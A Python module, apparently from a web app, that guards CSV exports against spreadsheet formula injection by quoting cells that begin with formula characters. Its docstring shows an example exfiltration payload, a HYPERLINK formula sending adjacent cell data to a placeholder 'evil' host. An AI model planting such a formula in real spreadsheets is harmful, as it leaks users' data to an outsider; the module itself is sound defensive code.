"""Every CSV file the app writes goes through ``write_csv``.

A cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return, which some spreadsheets skip before reading the rest) is run as a
formula when the file is opened in Excel, LibreOffice or Google Sheets: a
person named ``=HYPERLINK("http://evil/?"&A1,"Click")`` would send the
neighbouring cells to anyone, or worse. As OWASP's "CSV Injection" page
advises, such a cell is written with a single quote in front, which the
spreadsheet shows as text.

Every view that answers with a CSV file joins ``CSV_EXPORTS`` (the endpoint
and the URL values that ask for CSV): tests/test_csv_exports.py requests
each one and checks its cells, and fails for any ``text/csv`` answer of a
route that is not listed, or any ``csv.writer`` outside this module.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

# endpoint -> the URL values that make it answer with CSV
CSV_EXPORTS: dict[str, dict[str, Any]] = {
    "network.download": {"fmt": "csv"},
}


def safe_cell(value: Any) -> Any:
    """The cell as a spreadsheet may open it. Numbers are numbers (a -0.5
    cannot be a formula) and are kept; text that could start a formula is
    quoted."""
    if value is None:
        return ""
    if isinstance(value, int | float) and not isinstance(value, bool):
        return value
    text = str(value)
    return f"'{text}" if text.startswith(FORMULA_TRIGGERS) else text


def write_csv(header: Iterable[str], rows: Iterable[Iterable[Any]]) -> str:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([safe_cell(cell) for cell in header])
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
    return out.getvalue()


def rows_for_import(header: Iterable[str], rows: Iterable[Iterable[Any]]) -> bytes:
    """Rows as the CSV importers read them, for data that arrives another way
    (the API's bulk data points). Never offered as a download, so no cell is
    quoted against formulas: a note starting with "-" must arrive as sent."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode()
